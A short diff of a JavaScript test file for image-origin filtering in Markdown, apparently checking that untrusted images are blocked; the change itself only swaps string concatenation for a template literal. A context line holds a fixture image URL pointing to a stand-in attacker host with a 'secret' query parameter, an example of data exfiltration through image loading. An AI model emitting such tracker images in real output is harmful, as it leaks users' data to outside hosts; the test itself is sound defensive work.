@@ -64,7 +64,7 @@ describe('allowedImageOrigins', () => {
 
 describe('images in Markdown', () => {
   const text = [
-    'Own ![logo](/img/logo.png) and data ![dot](data:image/png;base64,' + PNG + ').',
+    `Own ![logo](/img/logo.png) and data ![dot](data:image/png;base64,${PNG}).`,
     '',
     'Tracker ![chart](https://attacker.example/c.png?q=secret "Chart") and svg ![svg](data:image/svg+xml;base64,PHN2Zz4=).',
     '',
